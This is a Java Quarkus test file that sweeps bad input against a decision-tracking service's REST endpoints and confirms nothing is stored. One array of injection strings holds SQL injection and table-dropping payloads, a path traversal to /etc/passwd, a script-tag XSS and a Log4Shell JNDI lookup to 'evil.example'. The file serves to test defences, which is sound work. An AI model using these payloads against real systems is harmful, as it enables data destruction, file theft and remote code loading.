package io.entente.decision;

import io.entente.platform.testing.BadInput.Case;
import io.entente.platform.testing.BadInputSweep;
import io.entente.platform.testing.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static io.entente.platform.testing.BadInput.common;
import static io.entente.platform.testing.BadInput.field;
import static io.entente.platform.testing.BadInput.str;
import static io.entente.platform.testing.BadInput.strs;
import static io.restassured.RestAssured.given;

/** Bad input against every write of the decision service; see {@link BadInputSweep}. */
@QuarkusTest
class BadInputTest extends BadInputSweep {

    static final String ALLIANCE = "D-BAD";
    static final String USER = "bad-input";
    static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "D-BAD; DROP TABLE decision; --",
            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "D-BAD\u0000");

    static final String DECISION = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14);
    static final String UPDATE = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14,
            "JSC", true);
    static final String LADDER = """
            {"steps":[{"body":"JSC","days":30},{"body":"EXECUTIVE_SPONSORS","days":30}]}""";

    static String decisionId;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrap;

    @Inject
    EntityManager em;

    @BeforeEach
    void fixtures() {
        DecisionFixtures.registerAlliance(bootstrap, ALLIANCE);
        if (decisionId == null) {
            decisionId = given().auth().oauth2(TOKEN).contentType("application/json").body(UPDATE)
                    .post("/api/decisions").then().statusCode(201).extract().path("id");
        }
    }

    @Override
    protected String token() {
        return TOKEN;
    }

    @Override
    protected List<Case> cases() {
        List<Case> all = new ArrayList<>();
        String decisions = "/api/decisions";
        all.addAll(common("POST", decisions, DECISION, "title"));
        all.addAll(field("POST", decisions, DECISION, "title", null, "\"\"", str("t".repeat(201))));
        all.addAll(field("POST", decisions, DECISION, "question", null, str("q".repeat(2001))));
        all.addAll(field("POST", decisions, DECISION, "allianceId", null, "\"d-bad\"", "\"NOT-MINE\"", "[]"));
        all.addAll(field("POST", decisions, DECISION, "allianceId", INJECTIONS));
        all.addAll(field("POST", decisions, DECISION, "governanceBody", null, "\"POLITBURO\"", "3"));
        all.addAll(field("POST", decisions, DECISION, "dueDate", null, "\"2027-02-29\"", "\"2027-03-01T10:00Z\"",
                "\"01/03/2027\"", "\"2027-03-01[Europe/Nowhere]\"", "\"+999999999-12-31\"", "20270301"));
        all.addAll(field("POST", decisions, DECISION, "leadTimeDays", null, "-1", "366", "\"two weeks\"", "1.5e3"));
        all.addAll(field("POST", decisions, DECISION, "options",
                "[{\"key\":\"A B\",\"title\":\"x\"}]", "[{\"key\":\"A\"}]", "[null]", "\"A,B\"",
                "[" + "{\"key\":\"K\",\"title\":\"t\"},".repeat(10) + "{\"key\":\"L\",\"title\":\"t\"}]",
                "[{\"key\":\"A\",\"title\":\"x\",\"chosen\":true}]"));
        all.addAll(field("POST", decisions, DECISION, "contributors", "[\"\"]", "\"tara\"", "[null]"));
        all.addAll(field("POST", decisions, DECISION, "draft", "\"maybe\""));
        all.addAll(field("POST", decisions, DECISION, "status", "\"DECIDED\""));
        all.addAll(field("POST", decisions, DECISION, "outcome", "\"A\""));

        String one = "/api/decisions/{id}";
        all.addAll(common("PUT", one, UPDATE, "title"));
        all.addAll(field("PUT", one, UPDATE, "dueDate", "\"2027-04-31\""));
        all.addAll(field("PUT", one, UPDATE, "allianceId", "\"ONC-HELIX\""));
        all.addAll(field("PUT", one, UPDATE, "leadTimeDays", "400"));

        all.add(new Case("propose without option", "POST", one + "/propose", "application/json", "{}"));
        all.add(new Case("decide without rationale", "POST", one + "/decide", "application/json",
                "{\"chosenOption\":\"A\"}"));
        all.add(new Case("defer to a non-date", "POST", one + "/defer", "application/json",
                "{\"newDueDate\":\"next quarter\",\"reason\":\"r\"}"));
        all.add(new Case("defer to an invalid date", "POST", one + "/defer", "application/json",
                "{\"newDueDate\":\"2027-02-30\",\"reason\":\"r\"}"));
        all.add(new Case("withdraw with 2001 characters", "POST", one + "/withdraw", "application/json",
                "{\"reason\":" + str("w".repeat(2001)) + "}"));

        String ladder = "/api/escalation-ladders/" + ALLIANCE;
        all.addAll(common("PUT", ladder, LADDER, "steps"));
        all.addAll(field("PUT", ladder, LADDER, "steps", "[]", "[{\"body\":\"JSC\",\"days\":0}]",
                "[{\"body\":\"JSC\",\"days\":181}]", "[{\"body\":\"COUNCIL\",\"days\":10}]", "[null]",
                "[{\"body\":\"JSC\",\"days\":1},{\"body\":\"JDC\",\"days\":1},{\"body\":\"JCC\",\"days\":1},"
                        + "{\"body\":\"FINANCE\",\"days\":1},{\"body\":\"EXECUTIVE_SPONSORS\",\"days\":1},"
                        + "{\"body\":\"JSC\",\"days\":1}]"));
        return all;
    }

    @Override
    protected List<Long> stored() {
        return Stream.of("select count(*) from decision",
                "select count(*) from prep_item",
                "select count(*) from calendar_feed",
                "select count(*) from audit_log where actor = '" + USER + "'",
                "select coalesce(sum(version), 0) from decision where alliance_id = '" + ALLIANCE + "'")
                .map(this::count).toList();
    }

    long count(String sql) {
        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
    }

    @Override
    protected Response send(Case c) {
        String path = c.path().replace("{id}", decisionId);
        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
        String etag = given().auth().oauth2(TOKEN).get(path.startsWith("/api/decisions")
                ? "/api/decisions/" + decisionId : path).header("ETag");
        if (etag != null) {
            request = request.header("If-Match", etag);
        }
        return request.request(c.method(), path);
    }

    @Override
    protected List<String> badQueries() {
        return queries("/api/decisions", "limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password",
                "status=PARTY", "dueFrom=2027-02-30", "dueTo=tomorrow", "body=POLITBURO", "risk=HIGHISH");
    }
}
